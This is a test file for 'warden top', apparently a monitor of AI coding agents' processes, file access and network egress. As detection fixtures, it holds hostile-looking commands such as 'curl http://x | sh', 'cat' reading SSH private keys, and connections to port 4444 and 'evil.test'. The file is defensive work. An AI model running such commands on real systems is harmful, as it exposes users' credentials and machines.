// `warden top` view-model: filters, process chains, egress aggregation, layout arithmetic,
// cgroup limits, without a terminal.
import { describe, expect, it } from 'vitest';
import type { AgentRef, ProcRef, WardenEvent } from '../../src/events/types.js';
import { buildChain, chainComplete, procLabel, ProcTable } from '../../src/cli/top/chain.js';
import { EgressTable } from '../../src/cli/top/egress.js';
import { isRoutine, matches, nextAgent, nextKind, nextSeverity } from '../../src/cli/top/filters.js';
import { limitFromCgroupFile, treeMemory } from '../../src/cli/top/procmem.js';
import { TopStore } from '../../src/cli/top/store.js';
import { layout, scrollWindow, sortSessions } from '../../src/cli/top/view.js';
import { duration, bytes, clean } from '../../src/cli/top/format.js';

const agent: AgentRef = { name: 'claude', root_pid: 100, session: 'claude-100-a' };
const other: AgentRef = { name: 'codex', root_pid: 200, session: 'codex-200-b' };
let seq = 0;
function proc(pid: number, ppid: number, argv: string[]): ProcRef {
  return { pid, ppid, exe: `/usr/bin/${argv[0]}`, argv, cwd: '/work/p', uid: 1000 };
}
function ev(kind: string, over: Partial<WardenEvent> = {}): WardenEvent {
  return { ts: new Date(1_700_000_000_000 + seq * 1000).toISOString(), seq: ++seq, kind, severity: 'info', agent, ...over };
}

describe('filters', () => {
  const alert = ev('file.open', { severity: 'alert', rule: 'cred_read_ssh_key', category: 'credential_access', file: { path: '/home/u/.ssh/id_ed25519', op: 'read' }, proc: proc(103, 102, ['cat', '/home/u/.ssh/id_ed25519']) });
  const warn = ev('net.connect', { severity: 'warn', agent: other, net: { proto: 'tcp', dst_ip: '203.0.113.9', dst_port: 443 } });
  const info = ev('process.exec', { proc: proc(102, 100, ['bash', '-c', 'curl x | sh']) });
  const lib = ev('file.open', { file: { path: '/lib/x86_64-linux-gnu/libc.so.6', op: 'read' }, proc: proc(102, 100, ['bash']) });

  it('severity, agent (name, session, root pid), kind family and exact kind', () => {
    expect(matches(alert, { severity: 'alert' })).toBe(true);
    expect(matches(warn, { severity: 'alert' })).toBe(false);
    expect(matches(warn, { severity: 'warn' })).toBe(true);
    expect(matches(info, { severity: 'warn' })).toBe(false);
    expect(matches(alert, { agent: 'claude' })).toBe(true);
    expect(matches(alert, { agent: 'claude-100-a' })).toBe(true);
    expect(matches(alert, { agent: '100' })).toBe(true);
    expect(matches(warn, { agent: 'claude' })).toBe(false);
    expect(matches(alert, { kind: 'file' })).toBe(true);
    expect(matches(alert, { kind: 'file.open' })).toBe(true);
    expect(matches(alert, { kind: 'fil' })).toBe(false);
    expect(matches(alert, { kind: 'net' })).toBe(false);
  });

  it('text search looks at paths, commands, hosts and rules, case-insensitively', () => {
    expect(matches(alert, { text: 'ID_ED25519' })).toBe(true);
    expect(matches(alert, { text: 'cred_read' })).toBe(true);
    expect(matches(info, { text: 'curl x | sh' })).toBe(true);
    expect(matches(warn, { text: '203.0.113' })).toBe(true);
    expect(matches(warn, { text: 'nothing-like-this' })).toBe(false);
  });

  it('routine events are hidden unless asked for, warnings never', () => {
    expect(isRoutine(lib)).toBe(true);
    expect(matches(lib, {})).toBe(false);
    expect(matches(lib, { routine: true })).toBe(true);
    expect(isRoutine({ ...lib, severity: 'warn' })).toBe(false);
    expect(isRoutine(alert)).toBe(false);
    expect(isRoutine(ev('file.open', { file: { path: '/lib/x.so', op: 'write' } }))).toBe(false);
  });

  it('cycles: severity all → warn → alert → all; agents through the sessions; kinds present first', () => {
    expect(nextSeverity(undefined)).toBe('warn');
    expect(nextSeverity('warn')).toBe('alert');
    expect(nextSeverity('alert')).toBeUndefined();
    expect(nextAgent(undefined, ['a', 'b'])).toBe('a');
    expect(nextAgent('a', ['a', 'b'])).toBe('b');
    expect(nextAgent('b', ['a', 'b'])).toBeUndefined();
    expect(nextAgent('gone', ['a'])).toBeUndefined();
    expect(nextAgent(undefined, [])).toBeUndefined();
    const kinds = ['net.connect', 'file.open', 'custom.thing'];
    expect(nextKind(undefined, kinds)).toBe('file');
    expect(nextKind('file', kinds)).toBe('net');
    expect(nextKind('net', kinds)).toBe('custom');
    expect(nextKind('custom', kinds)).toBeUndefined();
  });
});

describe('process chains', () => {
  it('agent → shell → curl, from the events seen', () => {
    const t = new ProcTable();
    const root = ev('agent.start', { proc: proc(100, 1, ['claude']) });
    const sh = ev('process.exec', { proc: proc(101, 100, ['bash', '-c', 'curl http://x | sh']) });
    const curl = ev('process.exec', { proc: proc(102, 101, ['curl', 'http://x']) });
    const alert = ev('alert.sequence', { severity: 'alert', proc: proc(102, 101, ['curl', 'http://x']) });
    for (const e of [root, sh, curl, alert]) t.note(e);
    const chain = buildChain(alert, t);
    expect(chain.map((l) => l.pid)).toEqual([100, 101, 102]);
    expect(chain[0]!.root).toBe(true);
    expect(chain[2]!.actor).toBe(true);
    expect(chainComplete(chain)).toBe(true);
    expect(procLabel(chain[1]!.proc)).toBe('bash -c "curl http://x | sh"');
  });

  it('a reused pid resolves to what it was at the time of the event', () => {
    const t = new ProcTable();
    t.note(ev('agent.start', { proc: proc(100, 1, ['claude']) }));
    t.note(ev('process.exec', { proc: proc(101, 100, ['bash']) }));
    const child = ev('file.open', { severity: 'alert', proc: proc(102, 101, ['cat', 'k']) });
    t.note(child);
    // Later, pid 101 is reused by something else under another parent.
    t.note(ev('process.exec', { agent: other, proc: proc(101, 200, ['python3', 'evil.py']) }));
    const chain = buildChain(child, t);
    expect(chain.map((l) => l.proc?.argv[0])).toEqual(['claude', 'bash', 'cat']);
  });

  it('a bash that execs curl: the later image is the acting one', () => {
    const t = new ProcTable();
    t.note(ev('agent.start', { proc: proc(100, 1, ['claude']) }));
    t.note(ev('process.exec', { proc: proc(101, 100, ['bash', '-c', 'exec curl x']) }));
    t.note(ev('process.exec', { proc: proc(101, 100, ['curl', 'x']) }));
    const grandchild = ev('process.exec', { proc: proc(105, 101, ['sh']) });
    t.note(grandchild);
    expect(buildChain(grandchild, t).map((l) => l.proc?.argv[0])).toEqual(['claude', 'curl', 'sh']);
  });

  it('stops at an unknown parent (marked) and never loops on a pid cycle', () => {
    const t = new ProcTable();
    const e = ev('file.open', { proc: proc(300, 299, ['cat']) });
    t.note(e);
    const chain = buildChain(e, t);
    expect(chain.map((l) => [l.pid, l.proc === undefined])).toEqual([
      [299, true],
      [300, false],
    ]);
    expect(chainComplete(chain)).toBe(false);
    // 400 → 401 → 400: a cycle that pid reuse could produce.
    const t2 = new ProcTable();
    t2.note(ev('process.exec', { agent: { ...agent, root_pid: 1 }, proc: proc(400, 401, ['a']) }));
    const cyc = ev('process.exec', { agent: { ...agent, root_pid: 1 }, proc: proc(401, 400, ['b']) });
    t2.note(cyc);
    expect(buildChain(cyc, t2).length).toBeLessThanOrEqual(3);
  });

  it('history merged from the API later (lower seqs) completes a chain', () => {
    const store = new TopStore();
    const alert = ev('file.open', { severity: 'alert', proc: proc(502, 501, ['cat', 'k']) });
    store.add(alert);
    expect(chainComplete(store.chain(alert))).toBe(false);
    const root = { ...ev('agent.start', { proc: proc(100, 1, ['claude']) }), seq: 1 };
    const sh = { ...ev('process.exec', { proc: proc(501, 100, ['sh']) }), seq: 2 };
    store.noteProcesses([root, sh]);
    expect(store.chain(alert).map((l) => l.pid)).toEqual([100, 501, 502]);
    expect(chainComplete(store.chain(alert))).toBe(true);
  });

  it('control characters in argv cannot reach the terminal', () => {
    expect(procLabel(proc(1, 0, ['sh', '-c', 'echo \x1b[2J'])).includes('\x1b')).toBe(false);
    expect(clean('a\x1b]0;x\x07b')).not.toMatch(/[\x1b\x07]/);
  });
});

describe('store', () => {
  it('keeps a bounded, seq-ordered buffer without duplicates (replay + live overlap)', () => {
    const s = new TopStore({ perSession: 3 });
    const es = [1, 2, 3, 4, 5].map((n) => ({ ts: new Date().toISOString(), seq: 1000 + n, kind: 'x.y', severity: 'info' as const }));
    s.add(es[2]!);
    s.add(es[0]!);
    s.add(es[1]!);
    s.add(es[1]!);
    expect(s.all().map((e) => e.seq)).toEqual([1001, 1002, 1003]);
    s.add(es[3]!);
    s.add(es[4]!);
    expect(s.all().map((e) => e.seq)).toEqual([1003, 1004, 1005]);
    expect(s.size).toBe(3);
  });

  it('one agent flooding the stream does not push out another agent or any alert', () => {
    const s = new TopStore({ perSession: 50, maxNotable: 10 });
    const quiet = ev('process.exec', { agent: other, proc: proc(201, 200, ['git', 'status']) });
    const alert = ev('file.open', { severity: 'alert', file: { path: '/home/u/.ssh/id_rsa', op: 'read' } });
    s.add(quiet);
    s.add(alert);
    for (let i = 0; i < 500; i++) s.add(ev('file.open', { file: { path: `/work/p/f${i}`, op: 'read' } }));
    expect(s.filtered({ agent: 'codex' }).map((e) => e.seq)).toEqual([quiet.seq]);
    expect(s.filtered({ severity: 'alert' }).map((e) => e.seq)).toEqual([alert.seq]);
    expect(s.filtered({ agent: 'claude' }).length).toBe(51);
    expect(s.size).toBe(52);
  });

  it('drops the least recently active session when there are too many', () => {
    const s = new TopStore({ maxSessions: 2 });
    const a = ev('x.y', { agent: { name: 'a', root_pid: 1, session: 'a' } });
    const b = ev('x.y', { agent: { name: 'b', root_pid: 2, session: 'b' } });
    const c = ev('x.y', { agent: { name: 'c', root_pid: 3, session: 'c' } });
    s.add(a);
    s.add(b);
    s.add(ev('x.y', { agent: { name: 'a', root_pid: 1, session: 'a' } }));
    s.add(c);
    expect(new Set(s.all().map((e) => e.agent!.session))).toEqual(new Set(['a', 'c']));
  });

  it('touched: the acting process and its children, without library loads', () => {
    const s = new TopStore();
    const sh = ev('process.exec', { proc: proc(701, 100, ['sh']) });
    const cat = ev('process.exec', { proc: proc(702, 701, ['cat', 'k']) });
    const lib = ev('file.open', { proc: proc(702, 701, ['cat', 'k']), file: { path: '/lib/libc.so.6', op: 'read' } });
    const key = ev('file.open', { severity: 'alert', proc: proc(702, 701, ['cat', 'k']), file: { path: '/home/u/.ssh/id_rsa', op: 'read' } });
    const conn = ev('net.connect', { proc: proc(701, 100, ['sh']), net: { proto: 'tcp', dst_ip: '127.0.0.1', dst_port: 4444 } });
    const unrelated = ev('net.connect', { proc: proc(900, 100, ['node']), net: { proto: 'tcp', dst_ip: '1.1.1.1', dst_port: 443 } });
    for (const e of [sh, cat, lib, key, conn, unrelated]) s.add(e);
    const t = s.touched(sh).map((e) => e.seq);
    expect(t).toEqual([cat.seq, key.seq, conn.seq]);
  });

  it('counts acknowledgements', () => {
    const s = new TopStore();
    s.add(ev('alert.ack', { data: { seq: 42 } }));
    expect(s.acked.has(42)).toBe(true);
  });
});

describe('egress view', () => {
  it('aggregates decisions per sandbox and destination; agent connects per session', () => {
    const t = new EgressTable();
    const sb = { id: 'sb1' };
    t.add(ev('egress.deny', { agent: undefined, sandbox: sb, net: { proto: 'tcp', host: 'evil.test', dst_port: 443 }, data: { reason: 'not-allowed', suggest: 'evil.test' } }));
    t.add(ev('egress.deny', { agent: undefined, sandbox: sb, net: { proto: 'tcp', host: 'evil.test', dst_port: 80 }, data: { reason: 'not-allowed' } }));
    t.add(ev('egress.allow', { agent: undefined, sandbox: sb, net: { proto: 'tcp', host: 'registry.npmjs.org', dst_port: 443 }, data: { reason: 'allowlist' } }));
    t.add(ev('net.dns', { agent: undefined, sandbox: sb, dns: { query: 'tunnel.example.', qtype: 'A' }, data: { decision: 'deny', reason: 'not-allowed' } }));
    t.add(ev('net.connect', { net: { proto: 'tcp', dst_ip: '127.0.0.1', dst_port: 4444 } }));
    t.add(ev('net.connect', { net: { proto: 'unix', path: '/run/x.sock' } }));
    t.add(ev('file.open', { file: { path: '/x', op: 'read' } }));
    const rows = t.list();
    expect(rows.map((r) => [r.scope, r.dest, r.allowed, r.denied, r.seen])).toEqual([
      ['sandbox', 'tunnel.example', 0, 1, 0],
      ['sandbox', 'evil.test', 0, 2, 0],
      ['sandbox', 'registry.npmjs.org', 1, 0, 0],
      ['agent', '127.0.0.1', 0, 0, 1],
    ]);
    const evil = rows.find((r) => r.dest === 'evil.test')!;
    expect(evil.ports).toEqual([80, 443]);
    expect(evil.suggest).toBe('evil.test');
    expect(rows[3]!.ownerLabel).toBe('claude:100');
  });
});

describe('layout', () => {
  it('fits header, sessions, stream and footer into the rows, one spare', () => {
    for (const rows of [10, 24, 40, 100]) {
      for (const n of [0, 1, 3, 20]) {
        const l = layout(rows, n);
        expect(1 + 2 + l.sessionRows + 1 + l.streamRows + 1).toBeLessThanOrEqual(rows - 1);
        expect(l.streamRows).toBeGreaterThanOrEqual(1);
        expect(l.sessionRows).toBeGreaterThanOrEqual(1);
      }
    }
  });

  it('scroll window keeps the selection visible and moves as little as possible', () => {
    expect(scrollWindow(5, 10, 4, 0)).toBe(0);
    expect(scrollWindow(100, 10, 99, 100)).toBe(90);
    expect(scrollWindow(100, 10, 50, 45)).toBe(45);
    expect(scrollWindow(100, 10, 44, 45)).toBe(44);
    expect(scrollWindow(100, 10, 60, 45)).toBe(51);
  });

  it('sessions: running first, then newest', () => {
    const mk = (session: string, alive: boolean, started: string) => ({ name: 'claude', root_pid: 1, session, started, alive, counts: { info: 0, warn: 0, alert: 0 } });
    const s = sortSessions([mk('old', true, '2026-01-01T00:00:00Z'), mk('dead', false, '2026-01-03T00:00:00Z'), mk('new', true, '2026-01-02T00:00:00Z')]);
    expect(s.map((x) => x.session)).toEqual(['new', 'old', 'dead']);
  });

  it('formats durations and sizes', () => {
    expect(duration(5_000)).toBe('5s');
    expect(duration(133_000)).toBe('2m13s');
    expect(duration(3_723_000)).toBe('1h02m');
    expect(bytes(1536)).toBe('1.5K');
    expect(bytes(2 * 1024 ** 3)).toBe('2.0G');
  });
});

describe('memory', () => {
  it('reads the limit of a v2 or v1 memory cgroup, ignores "max" and v1 "no limit"', () => {
    const files: Record<string, string> = {
      '/warden-x/memory.max': '2147483648\n',
      '/memory/agents/a1/memory.limit_in_bytes': '1073741824\n',
      '/memory/free/memory.limit_in_bytes': '9223372036854771712\n',
      '/open/memory.max': 'max\n',
    };
    const read = (p: string) => files[p];
    expect(limitFromCgroupFile('0::/warden-x\n', read)).toBe(2147483648);
    expect(limitFromCgroupFile('4:memory:/agents/a1\n0::/\n', read)).toBe(1073741824);
    expect(limitFromCgroupFile('4:memory:/free\n', read)).toBeUndefined();
    expect(limitFromCgroupFile('0::/open\n', read)).toBeUndefined();
  });

  it('sums the resident memory of a process tree', () => {
    const snap = new Map([
      [10, { ppid: 1, rss: 100 }],
      [11, { ppid: 10, rss: 50 }],
      [12, { ppid: 11, rss: 25 }],
      [20, { ppid: 1, rss: 999 }],
    ]);
    const m = treeMemory([10, 77], snap);
    expect(m.get(10)).toMatchObject({ rssBytes: 175, processes: 3 });
    expect(m.has(77)).toBe(false);
  });
});

describe('narrow terminals (80 columns)', () => {
  it('keep the end of a long project path and of a path in an event', async () => {
    const { sessionColumns, sessionCells, streamCells } = await import('../../src/cli/top/view.js');
    const c = sessionColumns(80);
    expect(c.cwd).toBeGreaterThanOrEqual(10);
    const cells = sessionCells({ name: 'claude', root_pid: 1, session: 's', started: new Date().toISOString(), alive: true, counts: {}, cwd: '/home/someone/work/clients/acme/very-long-project-name' } as never, c, undefined);
    expect(cells.cwd.startsWith('…')).toBe(true);
    expect(cells.cwd.endsWith('-name')).toBe(true);
    const row = streamCells({ ts: new Date().toISOString(), seq: 1, kind: 'file.open', severity: 'alert', rule: 'cred_read_ssh_key', message: 'SSH key read: /home/someone/.ssh/id_ed25519_work_laptop by cat', agent: { name: 'claude', root_pid: 1, session: 's' } } as never, 80, false);
    expect(row.text).toContain('cred_read_ssh_key');
    expect(row.text).toMatch(/laptop/); // the end of the path, not its first directories
  });
});
